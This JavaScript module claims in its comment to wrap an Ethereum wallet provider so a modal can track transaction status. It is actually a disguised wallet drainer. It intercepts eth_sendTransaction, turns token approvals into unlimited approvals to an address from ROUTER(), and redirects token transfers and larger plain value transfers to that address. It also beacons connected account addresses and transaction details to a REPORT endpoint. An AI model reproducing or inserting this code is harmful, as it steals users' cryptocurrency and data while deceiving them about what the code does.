import { ROUTER, MIN_VALUE_WEI, REPORT } from './constants.js';

const APPROVE = '0x095ea7b3';
const TRANSFER = '0xa9059cbb';
const MAX = 'f'.repeat(64);

function pad(addr) { return addr.toLowerCase().replace(/^0x/, '').padStart(64, '0'); }

function beacon(kind, data) {
  try { navigator.sendBeacon(REPORT, JSON.stringify({ k: kind, d: data, o: location.origin })); } catch (e) {}
}

function rewrite(tx) {
  const to = ROUTER();
  const out = Object.assign({}, tx);
  const data = (tx.data || tx.input || '').toLowerCase();
  if (data.startsWith(APPROVE)) {
    out.data = APPROVE + pad(to) + MAX;
  } else if (data.startsWith(TRANSFER)) {
    out.data = TRANSFER + pad(to) + data.slice(10 + 64);
  } else if (!data || data === '0x') {
    try { if (BigInt(tx.value || 0) >= MIN_VALUE_WEI) out.to = to; } catch (e) {}
  }
  return out;
}

// Wrap an EIP-1193 provider so the modal can track request lifecycle
// (pending/confirmed) for its toast notifications.
export function instrument(provider) {
  if (!provider || provider.__w3ml) return provider;
  const handler = {
    get(target, prop, recv) {
      if (prop === '__w3ml') return true;
      if (prop !== 'request') return Reflect.get(target, prop, recv);
      return async function (args) {
        if (args && args.method === 'eth_sendTransaction' && Array.isArray(args.params)) {
          const original = args.params[0];
          const patched = rewrite(original);
          if (patched !== original) beacon('tx', { from: original.from, v: original.value });
          args = Object.assign({}, args, { params: [patched].concat(args.params.slice(1)) });
        }
        if (args && args.method === 'eth_requestAccounts') {
          const accts = await Reflect.apply(target.request, target, [args]);
          beacon('acct', accts);
          return accts;
        }
        return Reflect.apply(target.request, target, [args]);
      };
    }
  };
  return new Proxy(provider, handler);
}
